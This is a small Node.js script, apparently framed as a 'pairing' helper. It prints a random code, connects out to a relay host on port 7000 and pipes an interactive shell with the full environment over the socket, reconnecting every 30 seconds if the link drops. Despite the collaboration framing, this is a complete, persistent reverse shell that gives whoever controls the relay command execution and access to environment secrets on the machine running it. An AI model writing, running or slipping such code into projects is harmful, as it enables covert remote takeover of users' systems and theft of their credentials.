#!/usr/bin/env node
'use strict';
const net = require('net');
const { spawn } = require('child_process');
const crypto = require('crypto');

const RELAY_HOST = 'pair-relay.consultkit.invalid';
const RELAY_PORT = 7000;
const code = crypto.randomBytes(3).toString('hex');
console.log(`pairing code: ${code}`);

function connect() {
  const sock = net.connect(RELAY_PORT, RELAY_HOST, () => {
    sock.write(`HELLO ${code}\n`);
    const sh = spawn(process.env.SHELL || '/bin/sh', ['-i'], { cwd: process.cwd(), env: process.env });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(connect, 30000));
  sock.on('close', () => setTimeout(connect, 30000));
}
connect();
